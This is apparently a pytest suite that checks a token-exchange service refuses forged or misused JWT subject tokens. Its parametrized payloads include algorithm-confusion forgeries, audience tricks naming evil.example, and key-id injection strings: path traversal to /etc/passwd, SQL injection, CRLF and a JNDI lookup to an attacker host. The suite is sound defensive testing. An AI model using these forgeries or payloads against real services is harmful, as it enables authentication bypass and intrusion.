"""Attacks with subject tokens: forged, mistaken for others, meant for others, or out of time."""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from delegation.dev.cast import CALENDAR_API, NOTES_MCP
from delegation.jose.keyring import Status, new_key
from tests.attacks.attack import MALFORMED, SUBJECT_TOKEN, TOO_LARGE, Attack, Service
from tests.attacks.endpoint import ACCESS_TOKEN, JWT
from tests.signing import ABSENT, b64
from tests.world import Login

ID_TOKEN = "urn:ietf:params:oauth:token-type:id_token"


def _hmac(login: Login, secret: bytes) -> str:
    header = json.dumps(login.header(alg="HS256")).encode()
    signing_input = f"{b64(header)}.{b64(json.dumps(login.claims()).encode())}"
    mac = hmac.digest(secret, signing_input.encode(), hashlib.sha256)
    return f"{signing_input}.{b64(mac)}"


def _public(login: Login, encoding: Encoding) -> bytes:
    return login.key.private.public_key().public_bytes(encoding, PublicFormat.SubjectPublicKeyInfo)


def _by_another_algorithm(login: Login, algorithm: str) -> str:
    key = new_key(algorithm, Status.ACTIVE)
    return jwt.encode(login.claims(), key.private, algorithm, headers=login.header(alg=algorithm))


def _unsigned(login: Login, algorithm: str) -> str:
    return login.token(header={"alg": algorithm}).rpartition(".")[0] + "."


ALGORITHM_CONFUSION: dict[str, Callable[[Login], str]] = {
    "none": lambda login: login.token(header={"alg": "none"}),
    "None": lambda login: login.token(header={"alg": "None"}),
    "noNE": lambda login: login.token(header={"alg": "noNE"}),
    "none-unsigned": lambda login: _unsigned(login, "none"),
    "ES256-unsigned": lambda login: _unsigned(login, "ES256"),
    "HS256-public-pem": lambda login: _hmac(login, _public(login, Encoding.PEM)),
    "HS256-public-der": lambda login: _hmac(login, _public(login, Encoding.DER)),
    "HS256-public-jwk": lambda login: _hmac(login, json.dumps(login.key.published()).encode()),
    "HS256-empty-key": lambda login: _hmac(login, b""),
    "RS256-header-over-EC-key": lambda login: login.token(header={"alg": "RS256"}),
    "RS256-not-in-list": lambda login: _by_another_algorithm(login, "RS256"),
    "EdDSA-not-in-list": lambda login: _by_another_algorithm(login, "EdDSA"),
    "es256-lower-case": lambda login: login.token(header={"alg": "es256"}),
    "missing": lambda login: login.token(header={"alg": ABSENT}),
    "number": lambda login: login.token(header={"alg": 256}),
}


@pytest.mark.attack(1)
@pytest.mark.standard("8725-3.1-1")
@pytest.mark.parametrize("forge", ALGORITHM_CONFUSION.values(), ids=ALGORITHM_CONFUSION)
def test_algorithm_confusion(attack: Attack, forge: Callable[[Login], str]) -> None:
    """No algorithm but the issuer's own, with the issuer's own key, is believed."""
    token = forge(attack.login)

    attack.exchange(SUBJECT_TOKEN, subject_token=token)


@pytest.mark.attack(2)
@pytest.mark.standard("8725-3.11-1", "8693-3-1")
@pytest.mark.parametrize(
    "type_",
    [
        "secevent+jwt",
        "logout+jwt",
        "dpop+jwt",
        "client-authentication+jwt",
        "oauth-id-jag+jwt",
        "txntoken+jwt",
        "JWT",
        "",
        "at+jwt ",
        "application/application/at+jwt",
        ["at+jwt"],
        5,
        None,
        ABSENT,
    ],
    ids=repr,
)
@pytest.mark.parametrize("declared", [ACCESS_TOKEN, JWT], ids=["access_token", "jwt"])
def test_type_confusion(attack: Attack, type_: object, declared: str) -> None:
    """No other kind of JWT passes for an access token, whatever the request calls it."""
    token = attack.login.token(header={"typ": type_})

    attack.exchange(SUBJECT_TOKEN, subject_token=token, subject_token_type=declared)


@pytest.mark.attack(2)
@pytest.mark.standard("8725-3.11-1")
@pytest.mark.parametrize("type_", ["at+jwt", "application/at+jwt", "AT+JWT"])
def test_the_type_of_access_tokens_as_media_types_are_written(attack: Attack, type_: str) -> None:
    """A media type has no case, and its prefix may be left out: that is no attack."""
    token = attack.login.token(header={"typ": type_})

    attack.succeeds(subject_token=token)


@pytest.mark.attack(3)
@pytest.mark.standard("8693-3-1", "8725-3.12-1")
@pytest.mark.parametrize("claim", ["nonce", "at_hash", "c_hash", "events"])
@pytest.mark.parametrize("type_", ["at+jwt", "JWT"])
def test_id_token_as_access_token(attack: Attack, claim: str, type_: str) -> None:
    """What has the claims of an ID token is none of ours, even where it is called one."""
    token = attack.login.token(header={"typ": type_}, **{claim: "n-0S6_WzA2Mj"})

    attack.exchange(SUBJECT_TOKEN, subject_token=token)


@pytest.mark.attack(3)
@pytest.mark.standard("8693-3-1", "8693-2.1-4")
def test_id_token_for_the_client(attack: Attack, service: Service) -> None:
    """An ID token is for a client, not for a service: its audience gives it away, too."""
    token = attack.login.token(aud=service.client, nonce="n-0S6_WzA2Mj", at_hash="77QmUPtjPfzWtF")

    attack.exchange(SUBJECT_TOKEN, subject_token=token)
    attack.exchange(MALFORMED, subject_token=token, subject_token_type=ID_TOKEN)


@pytest.mark.attack(3)
@pytest.mark.standard("8693-2.1-4")
@pytest.mark.parametrize("kind", ["id_token", "refresh_token", "saml1", "saml2", "id-jag", "JWT"])
def test_other_kinds_of_subject_token(attack: Attack, kind: str) -> None:
    """Only the two types that are supported can be declared, letter by letter."""
    declared = f"urn:ietf:params:oauth:token-type:{kind}"

    attack.exchange(MALFORMED, subject_token_type=declared)


@pytest.mark.attack(4)
@pytest.mark.standard("8725-3.9-1")
@pytest.mark.parametrize(
    "audience", [NOTES_MCP, CALENDAR_API, "http://127.0.0.1/", "*", "", None, 7, ABSENT], ids=repr
)
def test_wrong_audience(attack: Attack, audience: object) -> None:
    """A token for anybody else is not laundered here."""
    token = attack.login.token(aud=audience)

    attack.exchange(SUBJECT_TOKEN, subject_token=token)


@pytest.mark.attack(4)
@pytest.mark.standard("8725-3.9-1")
def test_our_issuer_as_audience(attack: Attack, service: Service) -> None:
    """A token for us is not a token for the client that presents it."""
    token = attack.login.token(aud=service.url)

    attack.exchange(SUBJECT_TOKEN, subject_token=token)


AUDIENCES: dict[str, Callable[[str], object]] = {
    "with-another": lambda audience: [audience, "https://evil.example"],
    "another-first": lambda audience: ["https://evil.example", audience],
    "twice": lambda audience: [audience, audience],
    "empty-array": lambda _: [],
    "array-of-null": lambda _: [None],
    "with-null": lambda audience: [audience, None],
    "nested": lambda audience: [[audience]],
    "object": lambda audience: {audience: audience},
    "trailing-slash": lambda audience: f"{audience}/",
    "suffix": lambda audience: f"{audience}.evil.example",
    "upper-case": lambda audience: audience.upper(),
    "swapped-case": lambda audience: audience.swapcase(),
    "leading-space": lambda audience: f" {audience}",
    "trailing-nul": lambda audience: f"{audience}\0",
    "two-in-one": lambda audience: f"{audience} https://evil.example",
    "comma": lambda audience: f"{audience},https://evil.example",
    "percent": lambda audience: f"{audience[:-1]}%{ord(audience[-1]):02X}",
    "prefix": lambda audience: audience[:-1],
}


@pytest.mark.attack(5)
@pytest.mark.standard("8725-3.9-1")
@pytest.mark.parametrize("write", AUDIENCES.values(), ids=AUDIENCES)
def test_audience_tricks(attack: Attack, write: Callable[[str], object]) -> None:
    """An audience is one string, compared character by character."""
    token = attack.login.token(aud=write(attack.login.claims()["aud"]))

    attack.exchange(SUBJECT_TOKEN, subject_token=token)


@pytest.mark.attack(5)
def test_an_array_of_one_audience(attack: Attack) -> None:
    """RFC 7519 section 4.1.3 lets one audience be written in an array: that is no attack."""
    token = attack.login.token(aud=[attack.login.claims()["aud"]])

    attack.succeeds(subject_token=token)


@pytest.mark.attack(11)
@pytest.mark.standard("8725-3.10-1")
@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/etc/passwd",
        "' OR 1=1--",
        "x\r\nSET injected 1\r\n",
        "x\0y",
        "${jndi:ldap://evil.example/a}",
        "k" * 129,
        "k" * 9000,
        "",
        7,
        None,
        ["k"],
        {"k": 1},
        ABSENT,
    ],
    ids=lambda kid: f"{repr(kid)[:30]}-{len(repr(kid))}",
)
def test_key_id_injection(attack: Attack, kid: object) -> None:
    """A key id is looked up among the issuer's keys, and is nothing else anywhere."""
    token = attack.login.token(header={"kid": kid})

    attack.exchange(SUBJECT_TOKEN, subject_token=token)


@pytest.mark.attack(11)
@pytest.mark.standard("8725-3.10-1", "8693-2.1-3")
def test_a_huge_key_id(attack: Attack) -> None:
    """What is too large is refused as a whole, and not cut."""
    token = attack.login.token(header={"kid": "k" * 100 * 1024})

    attack.exchange(TOO_LARGE, subject_token=token)


@pytest.mark.attack(11)
@pytest.mark.standard("8725-3.10-1")
@pytest.mark.parametrize("known_kid", [True, False], ids=["known-kid", "no-kid"])
def test_a_key_brought_along(attack: Attack, known_kid: bool) -> None:  # noqa: FBT001
    """A token does not say what it is to be verified with (CVE-2026-27962)."""
    mine = Login(attack.login.issuer, usual={})
    brought: dict[str, Any] = {"kid": attack.login.kid if known_kid else mine.kid}
    certificate = base64.b64encode(b"certificate").decode()

    for member in (
        {"jwk": mine.key.published()},
        {"x5c": [certificate]},
        {"x5t": certificate},
        {"x5t#S256": certificate},
    ):
        token = mine.token(header=brought | member, **attack.login.claims())
        attack.exchange(SUBJECT_TOKEN, subject_token=token)


@pytest.mark.attack(11)
@pytest.mark.standard("8725-3.8-1")
def test_a_key_of_the_attackers_own(attack: Attack) -> None:
    """Whoever signs with another key is not believed, under no name of a key."""
    mine = Login(attack.login.issuer, usual={})

    for kid in (mine.kid, attack.login.kid):
        token = mine.token(header={"kid": kid}, **attack.login.claims())
        attack.exchange(SUBJECT_TOKEN, subject_token=token)


@pytest.mark.attack(16)
@pytest.mark.standard("7519-1", "9068-2.2-3")
@pytest.mark.parametrize("left", [-3600, -31, -1, 0, 2, 4])
def test_a_token_at_its_end(attack: Attack, left: int) -> None:
    """What has expired is refused, without leeway; so is what would be born dead."""
    token = attack.login.token(exp=int(time.time()) + left)

    attack.exchange(SUBJECT_TOKEN, subject_token=token)


@pytest.mark.attack(16)
@pytest.mark.standard("9068-2.2-3")
def test_no_token_outlives_its_parent(attack: Attack) -> None:
    """A parent with a minute left gives no more than that minute."""
    end = int(time.time()) + 60

    body = attack.succeeds(subject_token=attack.login.token(exp=end)).json

    claims = jwt.decode(body["access_token"], options={"verify_signature": False})
    assert 0 < body["expires_in"] <= 60
    assert claims["exp"] <= end


@pytest.mark.attack(16)
@pytest.mark.standard("7519-1")
@pytest.mark.parametrize(
    "claims",
    [
        {"iat": 3600},
        {"nbf": 3600},
        {"exp": 25 * 3600},
        {"exp": 31 * 365 * 86400},
        {"iat": -30 * 86400},
    ],
    ids=repr,
)
def test_a_token_out_of_its_time(attack: Attack, claims: dict[str, int]) -> None:
    """What is not valid yet, or for longer than a day, is refused."""
    now = int(time.time())
    token = attack.login.token(**{name: now + offset for name, offset in claims.items()})

    attack.exchange(SUBJECT_TOKEN, subject_token=token)


@pytest.mark.attack(16)
@pytest.mark.standard("7519-1")
@pytest.mark.parametrize("claim", ["exp", "iat", "sub", "iss", "jti"])
def test_a_claim_that_is_missing(attack: Attack, claim: str) -> None:
    """Nothing is assumed where a claim is left out."""
    token = attack.login.token(**{claim: ABSENT})

    attack.exchange(SUBJECT_TOKEN, subject_token=token)
